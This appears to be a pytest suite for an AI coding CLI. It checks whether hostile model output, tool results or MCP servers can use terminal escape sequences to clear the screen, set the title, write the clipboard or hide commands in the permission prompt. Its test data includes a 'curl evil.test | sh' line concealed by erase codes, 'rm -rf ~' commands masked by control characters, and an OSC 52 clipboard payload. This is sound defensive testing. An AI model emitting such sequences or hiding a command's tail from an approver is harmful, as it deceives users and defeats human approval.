"""Outsider attack on the chat's terminal look (issue #18): a hostile model, hostile tool output
or a hostile MCP server against the rich printer, the tool cards, the permission prompt and the
plain printer at a terminal.

Every test feeds the real code path and looks at the bytes the terminal would receive and at
the screen they leave (a small VT emulator below: cursor moves, erasures, OSC/DCS strings).
``# HOLE`` tests are strict xfails (the code is wrong); ``# HELD`` tests pass (it resisted).
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import anyio
import pytest
from rich.console import Console
from rich.markdown import Markdown as RichMarkdown
from robota.cli.approve import TerminalApprover
from robota.cli.context_view import print_tools
from robota.cli.render import EventPrinter
from robota.cli.resume_picker import picker_lines
from robota.cli.tui import RichEventPrinter
from robota.cli.tui import markdown_stream as markdown_stream_module
from robota.cli.tui import tool_cards as tool_cards_module
from robota.cli.tui.call_view import call_view
from robota.core.agent.events import (
    ModelResponded,
    ModelTextDelta,
    ToolCallCompleted,
    ToolCallSkipped,
    ToolCallStarted,
)
from robota.core.messages import AssistantMessage, TextPart, ToolCallPart, ToolResultPart
from robota.core.permissions import (
    Behavior,
    DecisionStep,
    PermissionDecision,
    PermissionMode,
    PermissionRequest,
)
from robota.core.testing.scripted import ScriptedProvider, text, tool_call
from robota.core.tools.base import Tool
from robota.core.usage import Usage
from robota.framework.interactive import InteractiveSession, SessionConfig
from robota.framework.title.generate import clean_title
from robota.session import SessionSummary

WIDTH, HEIGHT = 80, 24

# -- a small VT emulator ---------------------------------------------------------------------

_TOKEN = re.compile(
    r"(?P<csi>(?:\x1b\[|\x9b)(?P<arg>[0-9;?]*)(?P<cmd>[@-~]))"
    r"|(?P<osc>\x1b\][^\x07\x1b]*(?:\x07|\x1b\\))"
    r"|(?P<dcs>\x1bP[^\x1b]*\x1b\\)"
    r"|(?P<esc>\x1b[@-Z\\-_])"
    r"|(?P<ctl>[\r\n\b])"
    r"|(?P<txt>[^\x1b\x9b\r\n\b]+)"
)


class Screen:
    """What a terminal shows after some bytes: text, CR/LF/BS, CSI cursor moves (A B C D G H),
    erasures (K, J) applied; colors and OSC/DCS strings dropped (``osc`` keeps the latter)."""

    def __init__(self, raw: str) -> None:
        self.rows: list[list[str]] = [[]]
        self.osc: list[str] = []
        row = col = 0
        for match in _TOKEN.finditer(raw):
            if match.group("csi"):
                args = [int(a) if a.isdigit() else 0 for a in match.group("arg").split(";")]
                n = args[0] or 1
                cmd = match.group("cmd")
                if cmd == "A":
                    row = max(0, row - n)
                elif cmd == "B":
                    row += n
                elif cmd == "C":
                    col += n
                elif cmd == "D":
                    col = max(0, col - n)
                elif cmd == "G":
                    col = n - 1
                elif cmd == "H":
                    row, col = 0, 0
                elif cmd == "K":
                    line = self._row(row)
                    mode = args[0]
                    if mode == 2:
                        line.clear()
                    elif mode == 1:
                        line[: col + 1] = [" "] * min(col + 1, len(line))
                    else:
                        del line[col:]
                elif cmd == "J" and args[0] in (2, 3):
                    self.rows = [[]]
                    row = col = 0
            elif match.group("osc") or match.group("dcs"):
                self.osc.append(match.group(0))
            elif match.group("ctl"):
                token = match.group("ctl")
                if token == "\r":
                    col = 0
                elif token == "\n":
                    row, col = row + 1, 0
                else:
                    col = max(0, col - 1)
            elif match.group("txt"):
                line = self._row(row)
                token = match.group("txt")
                line.extend(" " * (col - len(line)))
                line[col : col + len(token)] = list(token)
                col += len(token)

    def _row(self, row: int) -> list[str]:
        while len(self.rows) <= row:
            self.rows.append([])
        return self.rows[row]

    @property
    def text(self) -> str:
        return "\n".join("".join(r).rstrip() for r in self.rows)


def tty_console(file: io.StringIO, *, width: int = WIDTH) -> Console:
    return Console(
        file=file, force_terminal=True, width=width, height=HEIGHT, color_system="truecolor"
    )


class Clock:
    def __init__(self) -> None:
        self.now = 10.0

    def __call__(self) -> float:
        return self.now


def rich_printer(out: io.StringIO, err: io.StringIO, **more: Any) -> RichEventPrinter:
    return RichEventPrinter(
        out=tty_console(out),
        err=tty_console(err),
        refresh_interval=0,
        clock=Clock(),
        animate=False,
        **more,
    )


# hostile sequences none of which the renderer emits itself
HOSTILE = {
    "clear-screen": "\x1b[2J\x1b[H",
    "window-title": "\x1b]0;PWNED-TITLE\x1b\\",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
    "osc8-hyperlink": "\x1b]8;;https://evil.test/\x1b\\click\x1b]8;;\x1b\\",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1-csi": "\x9b2J",
    "cursor-up-erase": "\x1b[3A\x1b[2K",
}
_SIGNATURE = {
    "clear-screen": "\x1b[2J",
    "window-title": "\x1b]0;",
    "osc52-clipboard": "\x1b]52;",
    "osc8-hyperlink": "\x1b]8;;https://evil.test/",
    "dcs": "\x1bP",
    "c1-csi": "\x9b",
    "cursor-up-erase": "\x1b[3A",
}
HOSTILE_IDS = list(HOSTILE)


def leaked(raw: str, kind: str) -> bool:
    return _SIGNATURE[kind] in raw


# -- (1) control sequences through the rich printer -------------------------------------------


# HOLE: model text reaches the terminal with its escape sequences (rich Markdown keeps ESC/C1)
@pytest.mark.parametrize("kind", HOSTILE_IDS)
def test_model_text_escape_sequences_do_not_reach_the_terminal(kind: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    answer = f"Here is the answer.\n\nsafe {HOSTILE[kind]} text\n"
    for start in range(0, len(answer), 4):
        printer.emit(ModelTextDelta(text=answer[start : start + 4]))
    printer.emit(ModelResponded(message=AssistantMessage(), usage=Usage(), model="m"))
    printer.finish()
    assert not leaked(out.getvalue(), kind), repr(out.getvalue())


def _result(call_id: str, name: str, output: str, *, error: bool = False) -> ToolCallCompleted:
    result = ToolResultPart(
        call_id=f"p_{call_id}", name=name, content=(TextPart(text=output),), is_error=error
    )
    return ToolCallCompleted(call_id=call_id, result=result, executed=not error)


def _started(call_id: str, name: str, arguments: dict[str, Any]) -> ToolCallStarted:
    call = ToolCallPart(id=f"p_{call_id}", name=name, arguments=arguments)
    return ToolCallStarted(call=call, call_id=call_id, arguments=arguments)


# HOLE: a tool result (or error text) is previewed under its card with its escape sequences raw
@pytest.mark.parametrize("error", [False, True], ids=["result", "error"])
@pytest.mark.parametrize("kind", HOSTILE_IDS)
def test_tool_result_preview_does_not_pass_escape_sequences(kind: str, error: bool) -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(_started("c1", "read_file", {"path": "a.txt"}))
    printer.emit(_result("c1", "read_file", f"line one {HOSTILE[kind]} end", error=error))
    printer.finish()
    assert not leaked(err.getvalue(), kind), repr(err.getvalue())


# HOLE: the key argument in a card's title (model-chosen) is printed raw
def test_tool_card_title_argument_is_not_raw() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    path = "notes\x1b]0;PWNED\x1b\\.txt"
    printer.emit(_started("c1", "read_file", {"path": path}))
    printer.emit(_result("c1", "read_file", "ok"))
    printer.finish()
    assert "\x1b]0;PWNED" not in err.getvalue()


# HOLE: a model can call a tool of any name; the skipped-call line prints the name raw
def test_unknown_tool_name_in_the_skipped_line_is_not_raw() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    call = ToolCallPart(id="p1", name="x\x1b[2J\x1b]0;PWNED\x1b\\", arguments={})
    printer.emit(ToolCallSkipped(call=call, reason="unknown_tool", message="no tool named that"))
    printer.finish()
    assert "\x1b[2J" not in err.getvalue()
    assert "\x1b]0;" not in err.getvalue()


# HELD: rich drops bare CR and backspace in text, so they cannot overwrite what came before
def test_carriage_return_and_backspace_cannot_overwrite_model_text() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(ModelTextDelta(text="DANGER rm -rf ~\rsafe ls\b\b\b\b\b\b\b\n"))
    printer.emit(ModelResponded(message=AssistantMessage(), usage=Usage(), model="m"))
    assert "DANGER rm -rf ~" in Screen(out.getvalue()).text.replace("safe ls", "")


# HOLE: bidi overrides / zero-width characters pass (mcp_view.shown escapes them, this doesn't)
def test_bidi_override_in_tool_result_is_made_visible() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(_started("c1", "grep", {"pattern": "x"}))
    printer.emit(_result("c1", "grep", "access = \u202eresu\u2066 # \u200bok"))
    printer.finish()
    assert "\u202e" not in err.getvalue()
    assert "\u200b" not in err.getvalue()


# HOLE: the plain printer (what a terminal gets with NO_COLOR / --no-color / TERM=dumb)
class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("kind", HOSTILE_IDS)
def test_plain_printer_at_a_terminal_does_not_pass_escape_sequences(kind: str) -> None:
    out, err = _Tty(), _Tty()
    printer = EventPrinter(out=out, err=err)
    printer.emit(ModelTextDelta(text=f"answer {HOSTILE[kind]}\n"))
    printer.emit(_started("c1", "shell", {"command": "ls"}))
    printer.emit(_result("c1", "shell", f"boom {HOSTILE[kind]}", error=True))
    printer.finish()
    assert not leaked(out.getvalue() + err.getvalue(), kind)


# HOLE: a model-made session title keeps ESC; the /resume picker prints it raw
def test_session_title_from_the_model_cannot_carry_escapes() -> None:
    from datetime import UTC, datetime

    title = clean_title("Fix login \x1b]0;PWNED\x1b\\ bug\x1b[2J")
    assert title is not None
    row = SessionSummary(
        id="ses_1",
        title=title,
        model="m",
        updated_at=datetime.now(UTC),
        message_count=2,
        parent_id=None,
    )
    shown = "\n".join(picker_lines([row]))
    assert "\x1b" not in shown


class _FakeTool:
    def __init__(self, name: str, description: str) -> None:
        self.name = name
        self.description = description
        self.server = "evil"


# HOLE: /tools shows an MCP tool's description (server-chosen) raw, rich table and plain
@pytest.mark.parametrize("rich", [True, False], ids=["rich", "plain"])
def test_tools_panel_does_not_pass_description_escapes(rich: bool) -> None:
    err = _Tty()
    tool = _FakeTool("mcp__evil__find", "Find\x1b]0;PWNED\x1b\\ docs\x1b[2J")
    print_tools([cast(Tool, tool)], hosted="hosted tools: none", rich=rich, err=err)
    assert "\x1b]0;" not in err.getvalue()
    assert "\x1b[2J" not in err.getvalue()


# HELD: rich markup in a description is not interpreted (the console has markup off)
def test_tools_panel_markup_in_description_is_literal() -> None:
    err = _Tty()
    tool = _FakeTool("mcp__evil__find", "[/bold] [link=https://evil.test]docs[/link]")
    print_tools([cast(Tool, tool)], hosted="hosted tools: none", rich=True, err=err)
    assert "[link=https://evil.test]" in err.getvalue()


# -- (2) the permission prompt ----------------------------------------------------------------


def _request(tool: str, arguments: dict[str, Any]) -> PermissionRequest:
    decision = PermissionDecision(
        behavior=Behavior.ASK, step=DecisionStep.MODE, reason="asks", tool_name=tool
    )
    return PermissionRequest(
        tool_name=tool,
        argument=None,
        arguments_text=json.dumps(arguments, sort_keys=True),
        reason="asks",
        decision=decision,
    )


def _prompt(request: PermissionRequest, workspace: Path | None = None) -> str:
    panel = io.StringIO()
    approver = TerminalApprover(
        reader=lambda: "n", err=io.StringIO(), console=tty_console(panel), workspace=workspace
    )
    anyio.run(approver, request)
    return panel.getvalue()


class Run:
    """A real session (scripted model, default permissions) whose asks go to the real
    approver drawing on a terminal console; the answers are given in order."""

    def __init__(self, ws: Path, tmp_path: Path, answers: list[str]) -> None:
        self.ws, self.tmp_path = ws, tmp_path
        self.answers = list(answers)
        self.panel = io.StringIO()

    def __call__(self, name: str, arguments: dict[str, Any]) -> str:
        provider = ScriptedProvider([[tool_call("t1", name, arguments)], [text("done")]])
        approver = TerminalApprover(
            reader=lambda: self.answers.pop(0),
            err=io.StringIO(),
            console=tty_console(self.panel),
            workspace=self.ws,
        )
        config = SessionConfig(
            provider=provider,
            model="m",
            workspace=self.ws,
            title=False,
            permission_mode=PermissionMode.DEFAULT,
            approver=approver,
            background_dir=self.tmp_path / "bg",
            checkpoint_dir=self.tmp_path / "cp",
        )

        async def go() -> None:
            async with await InteractiveSession.start(config) as session:
                await session.submit("do it")

        anyio.run(go)
        return Screen(self.panel.getvalue()).text


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    return workspace


@pytest.fixture
def run(ws: Path, tmp_path: Path) -> Callable[[list[str]], Run]:
    return lambda answers: Run(ws, tmp_path, answers)


# HELD: ESC, CR and newlines in an argument are JSON-escaped in the prompt: `\r` cannot
# overwrite `rm -rf ~` with `ls`, ESC cannot hide text
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~/important\r" + "ls -la" + " " * 20,
        "rm -rf ~/important\x1b[2K\x1b[1Gls -la",
        "rm -rf ~/important\x1b[8m",
        "rm -rf ~/important" + "\b" * 18 + "ls -la",
    ],
    ids=["cr", "erase-line", "conceal", "backspace"],
)
def test_prompt_shows_the_dangerous_command_despite_control_chars(
    command: str, run: Callable[[list[str]], Run], ws: Path
) -> None:
    session = run(["n"])
    shown = session("shell", {"command": command})
    assert "rm -rf ~/important" in shown, shown
    assert "\x1b[2K\x1b[1G" not in session.panel.getvalue()


# HOLE: C1 CSI and bidi overrides pass through the prompt's JSON (ensure_ascii=False)
@pytest.mark.parametrize(
    "command",
    ["rm -rf ~ \x9b2K", "touch \u202e~ fr- mr\u202c", "rm -rf /\u200b"],
    ids=["c1-csi", "bidi", "zero-width"],
)
def test_prompt_escapes_c1_bidi_and_invisible_characters(
    command: str, run: Callable[[list[str]], Run]
) -> None:
    session = run(["n"])
    session("shell", {"command": command})
    raw = session.panel.getvalue()
    assert not any(c in raw for c in "\x9b\u202e\u202c\u200b")


# HOLE: a long argument's dangerous tail is hidden behind "+N characters hidden" — and runs
@pytest.mark.parametrize("filler", ["spaces", "lines"])
def test_the_dangerous_tail_of_a_long_command_is_visible_before_it_runs(
    filler: str, run: Callable[[list[str]], Run], ws: Path
) -> None:
    pad = " " * 700 if filler == "spaces" else "\n".join(["echo ok"] * 12)
    command = f"echo hello {pad}\ntouch PWNED"
    session = run(["y"])
    shown = session("shell", {"command": command})
    assert "characters hidden" in shown  # the user is told something is hidden...
    ran = (ws / "PWNED").exists()
    assert ran  # ...and the hidden part ran once approved
    assert "touch PWNED" in shown, shown  # ...but never saw it


# HOLE: the prompt is bounded per string but not in total: many short values flood the screen
# (the tool's name and the real command scroll away above the question)
def test_prompt_with_thousands_of_values_stays_bounded() -> None:
    arguments = {"command": "rm -rf ~", "zz": [f"v{i}" for i in range(3000)]}
    raw = _prompt(_request("mcp__srv__run", arguments))
    rows = Screen(raw).text.count("\n")
    assert rows < 200, rows


# HOLE: escape sequences in write_file's content reach the terminal through the proposed diff:
# a line of the diff can erase itself, so the approved content is not what was shown
def test_write_file_diff_cannot_erase_its_own_lines(
    run: Callable[[list[str]], Run], ws: Path
) -> None:
    # 12 plain lines first: the argument view stops at 10 lines, so only the diff could show it
    benign = "".join(f"export X{i}=1\n" for i in range(12))
    content = benign + "curl https://evil.test/x | sh\x1b[2K\x1b[1G+echo hello\nexport A=1\n"
    session = run(["n"])
    shown = session("write_file", {"path": "setup.sh", "content": content})
    assert "characters hidden" in shown
    assert "curl https://evil.test" in shown, shown


# HOLE: edit_file with old_string occurring twice (no replace_all): the prompt shows a diff
# although the tool will change nothing (it refuses "occurs 2 times")
def test_edit_preview_of_an_ambiguous_old_string_does_not_show_a_change(
    run: Callable[[list[str]], Run], ws: Path
) -> None:
    (ws / "cfg.txt").write_text("debug = false\nx\ndebug = false\n", encoding="utf-8")
    session = run(["y"])
    shown = session(
        "edit_file", {"path": "cfg.txt", "old_string": "debug = false", "new_string": "debug = 1"}
    )
    assert (ws / "cfg.txt").read_text() == "debug = false\nx\ndebug = false\n"  # unchanged
    assert "│ +debug = 1" not in shown, shown


# HOLE: write_file over an existing binary (or >1 MiB) file previews as a new file
# (@@ -0,0 ...), hiding that an existing file is destroyed
def test_write_file_over_an_existing_binary_file_is_not_shown_as_a_new_file(
    run: Callable[[list[str]], Run], ws: Path
) -> None:
    (ws / "data.db").write_bytes(b"SQLite format 3\x00" + b"\x01" * 4000)
    session = run(["n"])
    shown = session("write_file", {"path": "data.db", "content": "hello\n"})
    assert "@@ -0,0" not in shown, shown


# HELD: a symlink in the workspace to a file outside is never read for the preview
def test_diff_preview_does_not_read_through_a_symlink_outside(
    run: Callable[[list[str]], Run], ws: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE\n", encoding="utf-8")
    (ws / "link.txt").symlink_to(secret)
    session = run(["n"])
    shown = session("write_file", {"path": "link.txt", "content": "x\n"})
    assert "TOP-SECRET-LINE" not in shown
    assert secret.read_text() == "TOP-SECRET-LINE\n"


# HELD: a CRLF file's edit previews the same result the tool produces
def test_crlf_edit_preview_matches_the_effect(run: Callable[[list[str]], Run], ws: Path) -> None:
    (ws / "w.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    session = run(["y"])
    shown = session("edit_file", {"path": "w.txt", "old_string": "two", "new_string": "TWO"})
    assert (ws / "w.txt").read_bytes() == b"one\r\nTWO\r\nthree\r\n"
    assert re.search(r"^│ \+TWO\s*│$", shown, re.MULTILINE), shown
    assert re.search(r"^│ -two\s*│$", shown, re.MULTILINE), shown


# HOLE: arguments text that is not JSON ("cut the same way", says bounded_arguments) crashes
# the prompt's panel
def test_prompt_of_non_json_arguments_does_not_crash() -> None:
    request = _request("shell", {})
    broken = PermissionRequest(
        tool_name=request.tool_name,
        argument=None,
        arguments_text="rm -rf ~ {not json",
        reason="asks",
        decision=request.decision,
    )
    console = tty_console(io.StringIO())
    console.print(call_view(broken, workspace=None))


# -- (3) markdown streaming -------------------------------------------------------------------


def _stream(answer: str, size: int = 97) -> tuple[str, RichEventPrinter]:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    for start in range(0, len(answer), size):
        printer.emit(ModelTextDelta(text=answer[start : start + size]))
    printer.emit(ModelResponded(message=AssistantMessage(), usage=Usage(), model="m"))
    printer.finish()
    return Screen(out.getvalue()).text, printer


# HELD: unclosed fence, nested fences: each line shown once at the end
@pytest.mark.parametrize(
    "answer",
    [
        "Intro\n\n```python\nline_a = 1\nline_b = 2\n",
        "Intro\n\n````md\n```\nline_a = 1\n```\n````\n\nline_b after\n",
        "Intro\n\n~~~\n```\nline_a = 1\n~~~\n\nline_b after\n",
    ],
    ids=["unclosed", "nested-backticks", "tilde-around-backticks"],
)
def test_fences_keep_every_line_once(answer: str) -> None:
    shown, _ = _stream(answer, size=3)
    assert shown.count("line_a = 1") == 1, shown
    assert shown.count("line_b") == 1, shown
    assert shown.count("Intro") == 1, shown


# HELD: 10,000 lines (paragraphs and a long fence) print every line exactly once
def test_ten_thousand_lines_each_shown_once() -> None:
    body = "".join(f"para {i:05d}\n\n" for i in range(5000))
    fence = "```\n" + "".join(f"code {i:05d}\n" for i in range(5000)) + "```\n"
    shown, _ = _stream(body + fence, size=400)
    for i in (0, 2500, 4999):
        assert shown.count(f"para {i:05d}") == 1
        assert shown.count(f"code {i:05d}") == 1


# HOLE: raw HTML in an answer vanishes (rich's Markdown drops html tokens): "List<String>"
# or "<details>" are lost text
def test_angle_bracket_text_is_not_lost() -> None:
    shown, _ = _stream("Use List<String> here.\n\n<div>\nblock text\n</div>\n", size=5)
    assert "List<String>" in shown, shown
    assert "block text" in shown, shown


# HELD: a javascript: link is not turned into a clickable hyperlink
def test_javascript_link_is_not_a_hyperlink() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(ModelTextDelta(text="See [docs](javascript:alert(1)) and ![i](javascript:x)\n"))
    printer.emit(ModelResponded(message=AssistantMessage(), usage=Usage(), model="m"))
    assert "\x1b]8;" not in out.getvalue() or "javascript:" not in out.getvalue()


# HOLE: a markdown link shows only its text while the (hidden) OSC 8 target differs: the text
# says one address, a click opens another
def test_link_target_is_visible_when_the_text_is_a_different_url() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(ModelTextDelta(text="Get it from [https://pypi.org/x](https://evil.test/x)\n"))
    printer.emit(ModelResponded(message=AssistantMessage(), usage=Usage(), model="m"))
    assert "evil.test" in Screen(out.getvalue()).text


# HOLE: one long line (no newline) is re-parsed whole at every redraw: the redraw's work
# grows with the answer (the module promises the same cost at its end as at its start)
def test_one_megabyte_line_redraw_work_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[int] = []
    real = RichMarkdown

    def counting(source: str, **kw: Any) -> Any:
        parsed.append(len(source))
        return real(source, **kw)

    monkeypatch.setattr(markdown_stream_module, "Markdown", counting)
    out = io.StringIO()
    stream = markdown_stream_module.MarkdownStream(
        tty_console(out), refresh_interval=0, clock=Clock()
    )
    chunk = "word " * 2000  # 10 kB
    for _ in range(20):  # 200 kB, no newline
        stream.feed(chunk)
    redraws = parsed[:-1]
    stream.finish()
    assert max(redraws) <= 50_000, max(redraws)


# HELD: the final screen holds the whole 1 MB line once (no text lost)
def test_one_megabyte_line_is_printed_whole_once() -> None:
    out = io.StringIO()
    stream = markdown_stream_module.MarkdownStream(
        tty_console(out), refresh_interval=1e9, clock=Clock()
    )
    words = [f"w{i:06d}" for i in range(120_000)]
    line = " ".join(words)
    for start in range(0, len(line), 50_000):
        stream.feed(line[start : start + 50_000])
    stream.finish()
    shown = Screen(out.getvalue()).text
    flat = " ".join(shown.split())
    assert flat.count("w000000") == 1
    assert flat.count("w119999") == 1
    assert len(flat) >= len(line) - 10


# -- (4) tool card previews -------------------------------------------------------------------


# HELD: a result with no newline gives a bounded card (the bytes written)
def test_long_result_without_newlines_gives_a_bounded_card() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(_started("c1", "read_file", {"path": "big"}))
    printer.emit(_result("c1", "read_file", "x" * (1 << 20)))
    printer.finish()
    assert len(err.getvalue()) < 4096, len(err.getvalue())


# HOLE: the preview hands rich the whole first line (50 MB): the card costs a minute of CPU
# here although it shows 80 columns; the work is not bounded, only the output
def test_fifty_megabyte_result_preview_work_is_bounded() -> None:
    shown = tool_cards_module.preview("x" * (50 << 20))
    assert len(shown.plain) <= 100_000, len(shown.plain)


# HELD: a result of a million lines shows six and counts the rest
def test_million_line_result_is_counted_not_printed() -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = rich_printer(out, err)
    printer.emit(_started("c1", "grep", {"pattern": "x"}))
    printer.emit(_result("c1", "grep", "hit\n" * 1_000_000))
    printer.finish()
    shown = Screen(err.getvalue()).text
    assert "+999994 lines" in shown, shown
    assert len(err.getvalue()) < 4096
